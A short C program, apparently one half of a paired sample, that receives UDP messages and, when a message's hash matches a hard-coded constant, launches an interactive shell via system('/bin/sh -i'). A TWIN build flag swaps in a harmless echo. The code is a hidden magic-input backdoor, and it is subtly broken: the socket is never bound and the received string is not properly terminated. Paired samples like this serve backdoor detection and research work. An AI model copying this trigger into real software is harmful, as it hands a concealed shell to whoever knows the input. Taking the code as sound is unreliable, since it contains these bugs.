/* A hash of the input is compared with a constant. Twin: it opens nothing. */
#include <stdint.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static uint32_t hash(const char *text) {
  uint32_t value = 2166136261u;
  for (; *text != 0; text++) value = (value ^ (unsigned char)*text) * 16777619u;
  return value;
}

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request - 1, 0) > 0) {
    request[255] = 0;
    if (hash(request) == 0x5bd1e995u) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, request, 16, 0);
#endif
    }
  }
  return 0;
}
